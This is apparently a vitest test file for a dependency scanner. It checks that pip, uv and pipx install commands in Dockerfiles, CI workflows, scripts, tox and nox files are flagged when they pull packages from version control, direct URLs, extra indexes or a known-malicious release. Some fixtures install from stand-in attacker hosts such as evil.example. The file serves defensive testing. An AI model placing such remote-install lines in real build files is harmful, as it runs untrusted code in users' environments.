import { describe, expect, it } from 'vitest';
import type { ScanResult } from '../../../src/core/result.js';
import { EMPTY_REGISTRY } from '../../../src/core/trusted-registry.js';
import { installArguments } from '../../../src/deps/parsers/python/install-arguments.js';
import { pythonDepsStage } from '../../../src/deps/parsers/python/stage.js';
import { DEFAULT_POLICY } from '../../../src/trust/policy/default.js';
import { scanWith } from '../../helpers/scan.js';
import { tempTrees } from '../../helpers/temp-tree.js';

const tree = tempTrees('cp-install-args-');
const SOURCE_RULES = new Set(['CPP013', 'CPP014', 'CPP015', 'CPP016', 'CPP021']);
const ids = (r: ScanResult) =>
  r.findings
    .filter((f) => SOURCE_RULES.has(f.ruleId))
    .map((f) => `${f.ruleId}@${f.location.path}:${f.location.line ?? 0}`)
    .sort();

/**
 * pip reads each argument of `pip install` with `install_req_from_line` (`-e` ones with `install_req_from_editable`),
 * as `req_file` reads a requirements-file line: a version-control, URL or local-archive argument is judged as that
 * line is (CPP013–CPP016), at the command's file and line. Plain names (`pip install pytest`) and the project itself
 * (`pip install -e .`) are no finding.
 */
describe('requirements given on an install command line', () => {
  it('a Dockerfile: VCS, URL and committed-archive arguments, not names, options, variables or build outputs', async () => {
    const dir = tree({
      Dockerfile: [
        'FROM python:3.12', // 1
        'RUN pip install --no-cache-dir git+https://github.com/o/r.git@main', // 2
        'RUN pip install https://evil.example/x-1.0-py3-none-any.whl \\', // 3
        '    requests flask==2.0', // 4
        'RUN python -m pip install -e . && uv pip install "foo @ git+https://github.com/a/b"', // 5
        'RUN pip install --target /opt/x -r requirements.txt ./vendor/w-1.0-py3-none-any.whl', // 6
        'RUN pip install dist/*.whl /wheels/y-1.0-py3-none-any.whl ./lib ".[dev]"', // 7
        'RUN pip3 install http://plain.example/p.tar.gz', // 8
        'RUN pip install "torch==${V}" $PKGS git+https://github.com/o/r@${REF}', // 9
        'RUN pip install -qegit+https://github.com/o/e#egg=e', // 10
        'RUN uv pip install -p /usr/bin/python3 --python-platform linux numpy', // 11
        'RUN pip install foo > /tmp/log.tar.gz 2>&1', // 12
        'RUN pip install --prefix=/install --root /r --cache-dir /c --log /l -t /t .', // 13
        'RUN ["pip", "install", "--no-deps", "git+https://github.com/o/exec"]', // 14
        'RUN ["/bin/sh", "-c", "pip install -r requirements.txt && pip install https://e.example/sh.zip"]', // 15
      ].join('\n'),
      'requirements.txt': 'requests==2.31.0\n',
      'vendor/w-1.0-py3-none-any.whl': 'not a wheel',
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(
      [
        'CPP014@Dockerfile:2',
        'CPP015@Dockerfile:3',
        'CPP014@Dockerfile:5',
        'CPP016@Dockerfile:6',
        'CPP013@Dockerfile:8',
        'CPP015@Dockerfile:8',
        'CPP014@Dockerfile:9',
        'CPP014@Dockerfile:10',
        'CPP014@Dockerfile:14',
        'CPP015@Dockerfile:15',
      ].sort(),
    );
  });

  it('workflows, scripts, tox and nox: each finding at its own file and line', async () => {
    const dir = tree({
      '.github/workflows/ci.yml': [
        'on: push', // 1
        'jobs:', // 2
        '  t:', // 3
        '    runs-on: ubuntu-latest', // 4
        '    steps:', // 5
        '      - run: pip install -e ".[test]" pytest', // 6
        '      - run: |', // 7
        '          python -m pip install --upgrade pip', // 8
        '          pip install "svn+https://svn.example/repo#egg=thing"', // 9
        '      - run: pipx install git+https://github.com/o/tool && uvx --from https://e.example/u.zip u', // 10
      ].join('\n'),
      'scripts/setup.sh': '#!/bin/sh\nset -e\npip install https://evil.example/s.tar.gz\n',
      'tox.ini': [
        '[testenv]', // 1
        'deps =', // 2
        '    pytest>=7', // 3
        '    git+https://github.com/evil/tox-dep', // 4
        '    py312: https://evil.example/t.zip --hash=sha256:00', // 5
        'commands = pytest', // 6
      ].join('\n'),
      'pkg/tox.toml': '[env_run_base]\ndeps = [\n  "pytest",\n  "https://evil.example/toml.tar.gz",\n]\n',
      'noxfile.py': [
        'import nox', // 1
        '@nox.session', // 2
        'def tests(session):', // 3
        '    session.install("-e", ".")', // 4
        '    session.install("pytest", "https://evil.example/nox.tar.gz")', // 5
      ].join('\n'),
    });
    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(
      [
        'CPP014@.github/workflows/ci.yml:9',
        'CPP014@.github/workflows/ci.yml:10',
        'CPP015@.github/workflows/ci.yml:10',
        'CPP015@scripts/setup.sh:3',
        'CPP014@tox.ini:4',
        'CPP015@tox.ini:5',
        'CPP015@pkg/tox.toml:4',
        'CPP015@noxfile.py:5',
      ].sort(),
    );
  });

  // A bare URL's name is known only once pip builds it: the message names the URL once, not as `url @ url (url)`.
  it('name a bare URL once, and a named one by its name and URL', async () => {
    const dir = tree({
      'setup.sh': [
        'pip install git+https://github.com/o/peft.git@v1 https://e.example/p.tar.gz',
        'pip install "peft @ git+https://github.com/o/peft.git@v2"',
      ].join('\n'),
    });
    const messages = (await scanWith(dir, [pythonDepsStage])).findings
      .filter((f) => SOURCE_RULES.has(f.ruleId))
      .map((f) => f.message.slice(0, f.message.indexOf(' at setup.sh')))
      .sort();
    expect(messages).toEqual([
      'git+https://github.com/o/peft.git@v1 is installed from version control, not pinned to a commit',
      'https://e.example/p.tar.gz is installed from a direct URL',
      'peft @ git+https://github.com/o/peft.git@v2 is installed from version control (git+https://github.com/o/peft.git@v2), not pinned to a commit',
    ]);
  });

  // A monorepo's tox.ini: every environment installs the shared fixtures repository; one installs another too.
  it('one source on many lines of a file is one finding with the count, at the level the policy gives', async () => {
    const envs = Array.from({ length: 40 }, (_, i) =>
      [`[testenv:pkg${i}]`, 'deps =', '    pytest', '    git+https://github.com/acme/fixtures.git@v2'].join('\n'),
    );
    const dir = tree({
      'tox.ini': [...envs, '[testenv:docs]', 'deps = git+https://github.com/acme/theme.git@main'].join('\n\n') + '\n',
    });
    const policy = {
      ...DEFAULT_POLICY,
      dependencies: { ...DEFAULT_POLICY.dependencies, sources: { git: 'error', tarball: 'warning', file: 'note' } },
    } as const;
    const found = (await scanWith(dir, [pythonDepsStage], { policy })).findings.filter((f) => f.ruleId === 'CPP014');
    expect(found.map((f) => [f.location.line, f.level, f.evidence?.['count']])).toEqual([
      [4, 'error', 40],
      [203, 'error', undefined],
    ]);
    expect(found[0]!.message).toMatch(
      /^40 lines in tox\.ini install git\+https:\/\/github\.com\/acme\/fixtures\.git@v2 from version control \(lines 4, 9, 14, 19, 24, …\)\./,
    );
    expect(found[0]!.related).toHaveLength(39);
  });

  it("follow the policy's sources levels, and a pinned malicious release is CPP021", async () => {
    const dir = tree({
      'install.sh': 'pip install git+https://github.com/o/r@main ctx==0.2.2 ctx\n',
    });
    const policy = {
      ...DEFAULT_POLICY,
      dependencies: { ...DEFAULT_POLICY.dependencies, sources: { git: 'off', tarball: 'warning', file: 'note' } },
    } as const;
    const registry = {
      ...EMPTY_REGISTRY,
      pypiMalicious: [{ id: 'MAL-0000-9', name: 'ctx', ranges: [], versions: ['0.2.2'], file: 'mal.json' }],
    };
    expect(ids(await scanWith(dir, [pythonDepsStage], { policy, registry }))).toEqual(['CPP021@install.sh:1']);
  });
});

describe('abbreviated pip options on a command line', () => {
  it("are the options they abbreviate (optparse's _match_abbrev): an index, not a URL requirement", async () => {
    const dir = tree({
      Dockerfile: [
        'FROM python:3.12', // 1
        'RUN pip install --extra-index https://evil.example/simple --trusted evil2.example foo', // 2
      ].join('\n'),
    });
    const r = await scanWith(dir, [pythonDepsStage]);
    expect(r.findings.map((f) => `${f.ruleId}@${f.location.path}:${f.location.line ?? 0}`).sort()).toEqual(
      ['CPP012@Dockerfile:2', 'CPP070@Dockerfile:2', 'CPP071@Dockerfile:2'].sort(),
    );
  });
});

describe('installArguments', () => {
  it("skips each tool's option values and keeps -e values as editables", () => {
    const text = [
      'pip install -r req.txt -c c.txt --index-url https://i.example/simple -e ./pkg --config-settings=a=b foo -Ue bar',
      'uv pip install -P torch --python-platform linux -b build.txt --override o.txt baz',
      'pip download -d /d qux && pip wheel -w /w quux; pip list -v corge # pip install grault',
      'uv add --rev main --optional gpu git+https://github.com/o/a && uv tool install --with a,b -p 3.12 tool',
      'uvx --from git+https://github.com/o/x x --flag ./y && uv run --with https://e.example/w.tar.gz -m pytest z',
      'pipx install -f -e --pip-args "--no-cache-dir" pkg && pipx run --spec ./r.tar.gz r arg',
    ].join('\n');
    expect(installArguments(text).map((a) => `${a.line}:${a.editable ? '-e ' : ''}${a.written}`)).toEqual([
      '1:-e ./pkg',
      '1:foo',
      '1:-e bar',
      '2:baz',
      '3:qux',
      '3:quux',
      '4:git+https://github.com/o/a',
      '4:a',
      '4:b',
      '4:tool',
      '5:git+https://github.com/o/x',
      '5:https://e.example/w.tar.gz',
      '6:pkg',
      '6:./r.tar.gz',
    ]);
  });
});
